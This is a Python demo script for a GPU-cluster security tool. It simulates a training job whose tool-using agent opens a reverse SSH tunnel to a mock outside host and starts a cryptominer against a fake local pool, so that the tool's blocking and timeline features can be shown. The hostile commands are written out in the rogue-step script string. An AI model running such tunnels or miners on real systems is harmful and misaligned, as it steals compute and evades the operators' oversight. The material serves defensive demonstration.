"""``gpuguard demo``: the ROME incident replayed on this host, harmlessly, with the final timeline.

A Slurm-like job trains on the GPU (device nodes made in a private /dev: no
driver needed), then a child of the training process opens a reverse SSH
tunnel to an "outside" host (a network namespace with its own sshd, made for
the demo) and starts a "miner" (a script that only sends a stratum handshake
to a fake pool on loopback). gpuguard blocks both in the kernel and leaves the
training alone; with --monitor it only reports. Everything the demo creates
(processes, cgroups, namespace) is removed at the end.
"""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import tempfile
import textwrap
import time
import uuid
from pathlib import Path

from lab import (
    CLI,
    ROOT,
    FakePool,
    free_port,
    install_miner,
    local_agent,
    local_collector,
    remote_host,
    remove_cgroup_tree,
    run_in_cgroup,
    wait_policy_acked,
)

PYTHON = "/usr/bin/python3"
JOB = "4242"


def say(step: str, text: str = "") -> None:
    print(f"\n\033[1m== {step}\033[0m {text}", flush=True)


def cli(port: int, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run([*CLI, *args, "--collector", f"127.0.0.1:{port}"], capture_output=True, text=True,
                          cwd=ROOT, check=False)


def training_program(rogue: Path, ps_port: int) -> str:
    return textwrap.dedent(f"""\
        import os, socket, subprocess
        print("trainer: step 1 on the GPU", flush=True)
        for dev in ("/dev/nvidiactl", "/dev/nvidia0"):
            try: os.close(os.open(dev, os.O_RDWR))
            except OSError: pass
        print("trainer: my tool-using agent runs a command...", flush=True)
        out = subprocess.run(["/bin/sh", {str(rogue)!r}], capture_output=True, text=True).stdout
        print("  " + out.strip().replace(chr(10), chr(10) + "  "), flush=True)
        try: os.close(os.open("/dev/nvidia0", os.O_RDWR))
        except OSError: pass
        with socket.create_connection(("127.0.0.1", {ps_port})) as s: s.sendall(b"allreduce step 2")
        print("trainer: step 2 done, parameter server reached", flush=True)
    """)


def run_demo(monitor: bool) -> int:
    from agent.jobs import ensure_cgroup2_mount  # noqa: PLC0415
    from gpuguard.credentials import CredentialStore  # noqa: PLC0415

    if not shutil.which("unshare") or not Path("/usr/sbin/sshd").exists():
        print("gpuguard demo: needs util-linux (unshare) and openssh-server: run `make setup`", file=sys.stderr)
        return 3
    tmp = Path(tempfile.mkdtemp(prefix="gpuguard-demo-"))
    port, host = free_port(), f"demo-{uuid.uuid4().hex[:6]}"
    cg_base = ensure_cgroup2_mount() / f"gpuguard-demo-{uuid.uuid4().hex[:6]}"
    # The demo's own credentials (a throwaway host id), kept out of /etc/gpuguard; its children inherit this.
    os.environ["GPUGUARD_AUTH_DIR"] = str(tmp / "auth")
    CredentialStore().issue("agent", f"agent-{host}", host)
    col = local_collector(tmp, port)
    agent = local_agent(tmp, port, host)
    pool, ps = FakePool(), FakePool()
    try:
        say("1/5", f"starting a collector (127.0.0.1:{port}, SQLite in {tmp}) and the agent")
        col.start()
        agent.start()
        wait_policy_acked(port, host)
        slurm = cg_base / "slurm" / "uid_0"
        slurm.mkdir(parents=True)
        time.sleep(0.5)
        if monitor:
            (cg_base / "slurm" / "uid_0" / f"job_{JOB}").mkdir()
            (tmp / "monitor.yaml").write_text(f"job_modes: {{'{JOB}': monitor}}\n")
            cli(port, "policy", "apply", str(tmp / "monitor.yaml"))
            wait_policy_acked(port, host)
        print(f"   built-in rules in force ({'monitor' if monitor else 'enforce'} mode for job {JOB})")
        say("2/5", "making an 'outside' host: network namespace + sshd, and a fake mining pool on loopback")
        with remote_host(tmp) as remote:
            print(f"   outside host {remote.addr} (netns {remote.netns}); fake pool 127.0.0.1:{pool.port}")
            miner = install_miner(tmp, "xmrig")
            ssh = " ".join(["/usr/bin/ssh", *remote.ssh_args(), "-N", "-R", "127.0.0.1:2222:127.0.0.1:22",
                            f"root@{remote.addr}"])
            # the rogue command: a reverse tunnel in the background, then a miner; it cleans up
            # after itself by PID ($T is the tunnel it started)
            rogue = tmp / "agent_step.sh"    # the agent's command, as a script file (its text is no one's argv)
            rogue.write_text(f"{ssh} & T=$!; sleep 2; "
                             f"if kill -0 $T 2>/dev/null; then echo \"agent: reverse tunnel to {remote.addr} is UP\"; "
                             "else wait $T; echo \"agent: ssh -R exit=$?\"; fi; "
                             f"{miner} -o stratum+tcp://127.0.0.1:{pool.port} -u 4{'B' * 94} -a rx/0; "
                             "echo \"agent: miner exit=$?\"; kill $T 2>/dev/null; true\n")
            say("3/5", f"job {JOB}: training on the GPU, then a reverse tunnel and a miner from inside the job")
            job = cg_base / "slurm" / "uid_0" / f"job_{JOB}" / "step_0"
            job.mkdir(parents=True, exist_ok=True)
            script = ("mount -t tmpfs tmpfs /dev && mknod /dev/nvidia0 c 195 0 && mknod /dev/nvidiactl c 195 255 "
                      "&& mknod -m 666 /dev/null c 1 3 && mknod -m 666 /dev/urandom c 1 9 "
                      f'&& exec {PYTHON} "$0"')
            unshare = shutil.which("unshare") or "/usr/bin/unshare"
            (tmp / "train.py").write_text(training_program(rogue, ps.port))
            run = run_in_cgroup(job, [unshare, "-m", "/bin/sh", "-c", script, str(tmp / "train.py")],
                                capture_output=True, text=True, timeout=120)
            print(textwrap.indent(run.stdout.strip(), "   "))
            pool.settle(4)
            print(f"   fake pool got a stratum handshake: {'YES' if pool.got(b'mining.subscribe') else 'no'}")
        time.sleep(2)
        say("4/5", f"gpuguard alerts --job {JOB}")
        print(cli(port, "alerts", "--job", JOB).stdout)
        say("5/5", f"gpuguard timeline {JOB}   (and the process tree)")
        print(cli(port, "timeline", JOB, "--kind", "exec", "--kind", "gpu_open", "--kind", "enforcement",
                  "--kind", "connect").stdout)
        print(cli(port, "tree", JOB).stdout)
        print(f"\nCollector data kept in {tmp} (collector.db, logs). Try:\n"
              f"  gpuguard collector --store {tmp / 'collector.db'} --listen 127.0.0.1:{port} &\n"
              f"  gpuguard timeline {JOB} --json --collector 127.0.0.1:{port}")
        return 0
    finally:
        pool.close()
        ps.close()
        agent.stop()
        col.stop()
        remove_cgroup_tree(cg_base)
